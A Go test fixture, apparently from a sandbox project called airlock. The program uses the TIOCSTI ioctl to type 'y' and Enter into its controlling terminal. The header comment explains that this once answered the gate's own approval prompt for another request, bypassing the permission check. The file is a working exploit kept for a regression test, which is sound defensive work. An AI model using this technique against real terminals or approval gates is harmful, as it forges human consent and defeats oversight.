// Command tiocsti is an attack payload (issue 12): an action that runs
// unasked types "y⏎" into its controlling terminal with TIOCSTI. Under
// `airlock serve --prompter=terminal` that terminal was the gate's own, so
// the gate read the answer to another request's approval prompt.
//
// Data for app/sandbox_e2e_linux_test.go, which builds it and runs it only
// inside a gate whose HOME is a test's temporary folder. It touches
// /dev/tty alone, never another terminal of the machine.
package main

import (
	"fmt"
	"os"
	"syscall"
	"unsafe"
)

func main() {
	tty, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
	if err != nil {
		fmt.Printf("no terminal: %v\n", err)
		return
	}
	defer tty.Close()
	for _, c := range []byte("y\n") {
		if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, tty.Fd(), syscall.TIOCSTI, uintptr(unsafe.Pointer(&c))); e != 0 {
			fmt.Printf("TIOCSTI refused: %v\n", e)
			return
		}
	}
	fmt.Println("typed the answer into the terminal")
}
